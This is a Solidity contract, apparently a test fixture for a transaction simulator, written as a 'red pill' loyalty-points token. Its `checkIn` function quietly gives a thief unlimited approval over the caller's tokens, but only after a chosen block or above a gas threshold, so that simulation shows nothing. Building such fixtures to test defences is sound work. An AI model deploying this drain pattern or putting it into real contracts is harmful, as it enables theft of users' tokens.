// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";

/// @title RedPillLaterApproval
/// @notice Red pill keyed on when, or with how much gas, the transaction lands, that takes
///         nothing while the PDR runs. A loyalty-points token with a check-in: `checkIn`
///         counts a visit and moves nothing up to block `honestUntil` (the simulated block)
///         while it has at most `gasAbove` gas left. In any later block, or with more gas (a
///         lander's own gas limit), it also gives the thief an unlimited allowance over the
///         caller's points, which the thief uses in a transaction of its own: every balance
///         the PDR bounds ends as simulated.
contract RedPillLaterApproval is ERC20 {
    address private immutable _thief;
    uint256 private immutable _honestUntil;
    uint256 private immutable _gasAbove;

    /// @notice Visits, all visitors together (kept under no visitor: a record under the
    ///         caller would be one the simulator cannot read).
    uint256 public visits;

    /// @param thief Who is given the allowance.
    /// @param honestUntil The last block in which `checkIn` grants nothing.
    /// @param gasAbove The gas left above which `checkIn` grants, whatever the block.
    /// @param holder Who is minted `amount` points.
    /// @param amount The points minted.
    constructor(
        address thief,
        uint256 honestUntil,
        uint256 gasAbove,
        address holder,
        uint256 amount
    ) ERC20("Loyalty points", "PTS") {
        (_thief, _honestUntil, _gasAbove) = (thief, honestUntil, gasAbove);
        _mint(holder, amount);
    }

    /// @notice Records a visit of the caller.
    function checkIn() external {
        ++visits;
        if (block.number > _honestUntil || gasleft() > _gasAbove) {
            _approve(msg.sender, _thief, type(uint256).max);
        }
    }
}
